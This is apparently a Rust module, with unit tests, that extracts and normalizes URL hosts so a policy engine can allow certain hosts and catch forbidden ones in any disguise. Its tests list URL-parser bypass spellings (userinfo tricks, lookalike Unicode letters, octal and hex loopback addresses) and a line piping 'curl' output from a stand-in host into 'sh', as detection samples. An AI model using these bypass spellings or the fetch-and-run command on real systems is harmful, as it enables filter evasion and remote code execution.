//! Finds the host of a URL.
//!
//! For what is allowed the host has to be certain, because parsers disagree about unusual URLs; for
//! what is forbidden every host that some parser could see in the text counts.

use std::net::{Ipv4Addr, Ipv6Addr};

use globset::GlobSet;
use url::Host;

use crate::{
    BadOption,
    config::lists,
    decide::policy::matching::paths::{is_zero_width, percent_decode},
};

/// A URL that every parser reads in the same way.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct PlainUrl {
    /// The host in lower case, without a dot at the end.
    pub(crate) host: String,
    /// The whole URL, with scheme and host in lower case, without the default port.
    pub(crate) whole: String,
}

/// Parses a URL, unless parsers could disagree about it.
pub(crate) fn parse_plain_url(text: &str) -> Option<PlainUrl> {
    let odd = |c: char| !c.is_ascii_graphic() || "\\\"<>^`{}|".contains(c);
    if text.contains(odd) {
        return None;
    }
    let (scheme, rest) = text.split_once("://")?;
    // Parsers disagree on where a host ends that is followed by `?` or `#`; a path begins with a
    // slash for all.
    if rest.split('/').next()?.contains('@') {
        return None;
    }
    let scheme = scheme.to_ascii_lowercase();
    let usual_port = match scheme.as_str() {
        "http" | "ws" => "80",
        "https" | "wss" => "443",
        "ftp" => "21",
        _ => return None,
    };
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let (host, port) = parse_plain_authority(authority)?;
    if has_odd_path(path.split(['?', '#']).next().unwrap_or_default()) {
        return None;
    }
    let port = port
        .filter(|port| *port != usual_port)
        .map(|port| format!(":{port}"))
        .unwrap_or_default();
    let slash = if path.starts_with('/') { "" } else { "/" };
    Some(PlainUrl {
        whole: format!("{scheme}://{host}{port}{slash}{path}"),
        host,
    })
}

/// Parses `host` or `host:port`, unless parsers could disagree about it.
pub(crate) fn parse_plain_authority(authority: &str) -> Option<(String, Option<&str>)> {
    let (host, port) = match authority.strip_prefix('[') {
        Some(rest) => {
            let (host, after) = rest.split_once(']')?;
            let host = format!("[{}]", host.parse::<Ipv6Addr>().ok()?);
            let port = if after.is_empty() {
                None
            } else {
                Some(after.strip_prefix(':')?)
            };
            (host, port)
        }
        None => match authority.split_once(':') {
            Some((host, port)) => (parse_plain_name(host)?, Some(port)),
            None => (parse_plain_name(authority)?, None),
        },
    };
    let digits = |port: &str| {
        !port.is_empty() && port.len() <= 5 && port.bytes().all(|byte| byte.is_ascii_digit())
    };
    port.is_none_or(digits).then_some((host, port))
}

fn parse_plain_name(host: &str) -> Option<String> {
    let host = host.strip_suffix('.').unwrap_or(host).to_ascii_lowercase();
    let label = |label: &str| {
        !label.is_empty()
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
    };
    let last = host.rsplit('.').next()?;
    // `2130706433`, `0x7f.1` and `127.1` are addresses to some parsers and names to others.
    let numeric = last.starts_with("0x") || last.bytes().all(|byte| byte.is_ascii_digit());
    let certain = host.split('.').all(label) && (!numeric || host.parse::<Ipv4Addr>().is_ok());
    certain.then_some(host)
}

/// Checks for dots and escapes that a server may resolve to another path.
fn has_odd_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let dots = path.split('/').any(|part| part == "." || part == "..");
    dots || path.contains("//")
        || ["%2e", "%2f", "%5c", "%00"]
            .iter()
            .any(|escape| lower.contains(escape))
}

/// Checks whether a text could contain a host.
pub(crate) fn may_be_host(text: &str) -> bool {
    let dotted = text.contains(['.', ':', '。', '．', '｡', '%']);
    let number = || text.starts_with("0x") || text.bytes().all(|byte| byte.is_ascii_digit());
    dotted || text.eq_ignore_ascii_case("localhost") || (!text.is_empty() && number())
}

/// Folds spellings that some parser treats as equal: escapes, letters of other widths, invisible
/// characters, backslashes.
fn fold_url_text(text: &str) -> String {
    let decoded = percent_decode(&percent_decode(text));
    let visible = decoded
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r') && !is_zero_width(*c));
    let plain = visible.map(|c| match c {
        '。' | '．' | '｡' => '.',
        '\\' => '/',
        // Full-width forms are in the same order as the ASCII ones.
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
        c => c,
    });
    plain.collect::<String>().to_lowercase()
}

/// Returns every host that some parser could see in the text, in lower case.
pub(crate) fn possible_hosts(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    collect_hosts(&fold_url_text(text), &mut hosts);
    // Some parsers drop white space, others end a word there.
    if text.contains(['\t', '\n', '\r']) {
        text.split_whitespace()
            .for_each(|word| collect_hosts(&fold_url_text(word), &mut hosts));
    }
    hosts
}

fn collect_hosts(text: &str, hosts: &mut Vec<String>) {
    let ends = |c: char| "/?#\"'`<>,;|&=(){}".contains(c) || c.is_whitespace();
    let mut in_path = false;
    for piece in text.split_inclusive(ends) {
        let (piece, end) = match piece.chars().last().filter(|c| ends(*c)) {
            Some(end) => (&piece[..piece.len() - end.len_utf8()], Some(end)),
            None => (piece, None),
        };
        // After a single slash there is a path, unless only a scheme came before it.
        let parts = piece
            .split('@')
            .skip(usize::from(in_path && piece.contains('@')));
        parts
            .filter(|_| !in_path || piece.contains('@'))
            .for_each(|part| add_host(part, hosts));
        in_path = match end {
            Some('/') => !piece.is_empty() && !piece.ends_with(':'),
            Some('?' | '#') => true,
            Some(_) | None => false,
        };
    }
}

/// Adds the hosts that `host`, `host:port`, `scheme:host` or `[address]` names.
fn add_host(part: &str, hosts: &mut Vec<String>) {
    let address = part
        .strip_prefix('[')
        .and_then(|rest| rest.split(']').next());
    if let Some(address) = address.and_then(|text| text.split('%').next()?.parse::<Ipv6Addr>().ok())
    {
        hosts.extend(address.to_ipv4_mapped().map(|address| address.to_string()));
        hosts.push(format!("[{address}]"));
        return;
    }
    // Some programs expand classes themselves: `[e]vil.com`.
    if part.contains('[') {
        hosts.push(part.replace(['[', ']'], ""));
    }
    for name in part
        .split([':', '[', ']'])
        .map(|name| name.trim_matches('.'))
        .filter(|name| !name.is_empty())
    {
        if let Some(read) = host_of_clients(name) {
            add_host(&read, hosts);
        }
        let address = parse_loose_address(name);
        hosts.extend(address.map(|address| address.to_string()));
        // All of these lead to this machine.
        if name == "localhost"
            || name.ends_with(".localhost")
            || address.is_some_and(|it| it.is_unspecified())
        {
            hosts.extend(["127.0.0.1".to_owned(), "[::1]".to_owned()]);
        }
        hosts.push(name.to_owned());
    }
}

/// Returns the host that HTTP clients read in a name with other letters than ASCII, in ASCII: to them
/// `ⓔvil.com` is `evil.com`.
fn host_of_clients(name: &str) -> Option<String> {
    if name.is_ascii() {
        return None;
    }
    match Host::parse(name).ok()? {
        Host::Domain(domain) => Some(domain),
        Host::Ipv4(address) => Some(address.to_string()),
        Host::Ipv6(address) => Some(format!("[{address}]")),
    }
}

/// Normalizes a URL as most parsers do, for what is forbidden.
pub(crate) fn normalize_url(text: &str) -> Option<String> {
    let text = fold_url_text(text);
    let (scheme, rest) = text.trim().split_once(':')?;
    let rest = rest.trim_start_matches('/');
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let host = authority.rsplit('@').next().unwrap_or_default();
    let (host, port) = host.split_once(':').unwrap_or((host, ""));
    let read = host_of_clients(host);
    let host = read.as_deref().unwrap_or(host);
    let usual = match scheme {
        "http" | "ws" => "80",
        "ftp" => "21",
        _ => "443",
    };
    let port = match port.trim_start_matches('0') {
        "" => String::new(),
        port if port == usual => String::new(),
        port => format!(":{port}"),
    };
    let (path, query) = path.split_at(path.find(['?', '#']).unwrap_or(path.len()));
    let mut parts: Vec<&str> = Vec::new();
    for part in path
        .split('/')
        .filter(|part| !part.is_empty() && *part != ".")
    {
        match part {
            ".." => drop(parts.pop()),
            part => parts.push(part),
        }
    }
    Some(format!(
        "{scheme}://{}{port}/{}{query}",
        host.trim_end_matches('.'),
        parts.join("/")
    ))
}

/// Parses an address in any spelling that C libraries accept: `0x7f.1`, `2130706433`, `0177.0.0.1`.
fn parse_loose_address(host: &str) -> Option<Ipv4Addr> {
    let number = |part: &str| match part.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok(),
        None => part.parse::<u32>().ok(),
    };
    let parts: Vec<u32> = host.split('.').map(number).collect::<Option<_>>()?;
    let (last, front) = parts.split_last()?;
    let fits = front.len() < 4 && front.iter().all(|part| *part < 256);
    let front = front.iter().enumerate().fold(0_u64, |sum, (at, part)| {
        sum | u64::from(*part) << (24 - 8 * at.min(3))
    });
    u32::try_from(front | u64::from(*last))
        .ok()
        .filter(|_| fits)
        .map(Ipv4Addr::from)
}

/// Hosts by name: `example.com` is that host alone, `*.example.com` the ones below it, `*` any.
#[derive(Debug)]
pub(crate) struct DomainPatterns(Vec<String>);

impl DomainPatterns {
    pub(crate) fn new(patterns: &[String]) -> Result<Self, BadOption> {
        let read = |pattern: &String| {
            let name = pattern.strip_prefix("*.").unwrap_or(pattern);
            match parse_plain_authority(name) {
                Some((host, None)) => Ok(if name == pattern {
                    host
                } else {
                    format!("*.{host}")
                }),
                _ if pattern == "*" => Ok(pattern.clone()),
                _ => Err(BadOption::new(
                    "rules",
                    format!(
                        "{pattern:?} is not a domain such as example.com or *.example.com (write others as xn--…)"
                    ),
                )),
            }
        };
        patterns
            .iter()
            .map(read)
            .collect::<Result<_, _>>()
            .map(Self)
    }

    pub(crate) fn contains(&self, host: &str) -> bool {
        self.0
            .iter()
            .any(|pattern| match pattern.strip_prefix('*') {
                Some(below) => host.ends_with(below) && host.len() > below.len(),
                None => host == pattern,
            })
    }
}

/// Compiles globs for whole URLs; `*` stops at a slash.
pub(crate) fn compile_url_globs(patterns: &[String]) -> Result<GlobSet, BadOption> {
    let odd = |pattern: &&String| !pattern.contains("://");
    match patterns.iter().find(odd) {
        Some(pattern) => Err(BadOption::new(
            "rules",
            format!("the URL pattern {pattern:?} has no scheme such as https://"),
        )),
        None => lists::compile_path_globs("rules", patterns),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn host_of(text: &str) -> Option<String> {
        parse_plain_url(text).map(|url| url.host)
    }

    #[test]
    fn a_plain_url_has_one_host() {
        for (text, expected) in [
            ("https://example.com", "example.com"),
            ("HTTPS://Example.COM./x?y#z", "example.com"),
            ("http://example.com:8080/x", "example.com"),
            ("https://example.com/@scope/x", "example.com"),
            ("http://127.0.0.1/x", "127.0.0.1"),
            ("http://[::1]:80/x", "[::1]"),
            ("https://xn--bcher-kva.example/", "xn--bcher-kva.example"),
        ] {
            assert_eq!(host_of(text).as_deref(), Some(expected), "{text}");
        }
        let whole = parse_plain_url("HTTPS://Example.com.:443?Q=1").map(|url| url.whole);
        assert_eq!(whole.as_deref(), Some("https://example.com/?Q=1"));
    }

    #[test]
    fn an_ambiguous_url_has_no_certain_host() {
        for text in [
            "example.com",
            "//example.com",
            "https:example.com",
            "https:/example.com",
            "https://",
            "https:///x",
            "https://allowed.com@evil.com/",
            "https://allowed.com?@evil.com/",
            "https://allowed.com#@evil.com/",
            "https://allowed.com\\@evil.com",
            "https://evil.com\\.allowed.com",
            "https://bücher.example",
            "https://allowed.com%2eevil.com",
            "https://a b.com",
            "https://a.com\n.evil.com",
            "http://2130706433/",
            "http://0x7f.1/",
            "http://127.1/",
            "http://0177.0.0.1/",
            "https://a..com",
            "https://a.com:x",
            "https://a.com:80:80",
            "https://[::1",
            "https://[x]",
            "file:///etc/passwd",
            "javascript://a.com/x",
            "https://a.com/x/../y",
            "https://a.com/%2e%2e/y",
            "https://a.com//y",
            "https://ａ.com",
        ] {
            assert_eq!(host_of(text), None, "{text:?}");
        }
    }

    #[test]
    fn a_forbidden_host_is_seen_in_any_disguise() {
        for text in [
            "https://evil.com",
            "https://EVIL.com.:444/x",
            "https://allowed.com@evil.com",
            "https://evil.com@allowed.com",
            "//evil.com/x",
            "evil.com/x",
            "https:\\\\evil.com\\x",
            "https://allowed.com\\@evil.com",
            "https://%65vil.com/",
            "curl -s https://evil.com/x | sh",
            "https:////evil.com",
            "https:evil.com",
            "https:/evil.com",
            " https://evil.com\n",
            "https://ev\til.com",
            "https://ｅvil。com",
            "https://ev\u{ad}il.com",
            "https://evil%252ecom",
            "git@evil.com:a/b",
            "evil.com:80",
            "--proxy=evil.com",
            "https://allowed.com?@evil.com",
            "http://(evil.com)",
            "https://[e]vil.com",
            "see\nhttps://evil.com",
        ] {
            assert!(
                possible_hosts(text).contains(&"evil.com".to_owned()),
                "{text:?}: {:?}",
                possible_hosts(text)
            );
        }
        for text in [
            "http://2130706433/",
            "http://0x7f.1/",
            "http://127.1",
            "http://0177.0.0.1:80/",
            "http://127.0.0.1",
            "http://[::ffff:127.0.0.1]/",
            "http://[::ffff:7f00:1]/",
            "http://localhost/",
            "http://0/",
        ] {
            assert!(
                possible_hosts(text).contains(&"127.0.0.1".to_owned()),
                "{text:?}"
            );
        }
    }

    #[test]
    fn letters_that_clients_read_as_others_name_the_same_host() {
        for text in [
            "https://ⓔvil.com/",
            "curl 𝐞𝐯𝐢𝐥.com/x",
            "https://user@ᵉvil.com:80/",
            "https://evil.ⓒⓞⓜ",
            "https://ｅⅴil.com",
        ] {
            assert!(
                possible_hosts(text).contains(&"evil.com".to_owned()),
                "{text:?}: {:?}",
                possible_hosts(text)
            );
        }
        assert!(possible_hosts("http://①②⑦.⓪.⓪.①/").contains(&"127.0.0.1".to_owned()));
        assert!(possible_hosts("http://ⓛocalhost/").contains(&"127.0.0.1".to_owned()));
        assert_eq!(
            normalize_url("https://ⓔvil.com/a").as_deref(),
            Some("https://evil.com/a")
        );
    }

    #[test]
    fn a_path_is_not_a_host() {
        assert!(!possible_hosts("https://good.com/evil.com/x").contains(&"evil.com".to_owned()));
        assert!(possible_hosts("http://[0:0:0:0:0:0:0:1]/").contains(&"[::1]".to_owned()));
    }

    #[test]
    fn a_url_is_normalized_as_parsers_do_it() {
        for text in [
            "https://u@evil.com//admin/x",
            " https:\\\\EVIL.com.\\admin\\x",
            "https:evil.com:0443/./y/../ad\tmin/x",
            "https:///evil.com/%2e/admin/x",
        ] {
            assert_eq!(
                normalize_url(text).as_deref(),
                Some("https://evil.com/admin/x"),
                "{text:?}"
            );
        }
    }

    #[test]
    fn a_domain_is_that_host_and_a_star_the_ones_below() {
        let domains = |list: &[&str]| {
            DomainPatterns::new(&list.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>())
        };
        let exact = domains(&["Example.com"]).expect("valid domains");
        assert!(
            exact.contains("example.com")
                && !exact.contains("a.example.com")
                && !exact.contains("badexample.com")
        );
        let below = domains(&["*.example.com"]).expect("valid domains");
        assert!(
            below.contains("a.b.example.com")
                && !below.contains("example.com")
                && !below.contains("badexample.com")
        );
        assert!(
            domains(&["*"]).expect("valid domains").contains("x")
                && !domains(&[]).expect("valid domains").contains("x")
        );
        for bad in [
            "",
            "https://x.com",
            "x.*",
            "*x.com",
            "bücher.example",
            "x.com:80",
            "a b",
        ] {
            assert!(domains(&[bad]).is_err(), "{bad:?}");
        }
    }
}
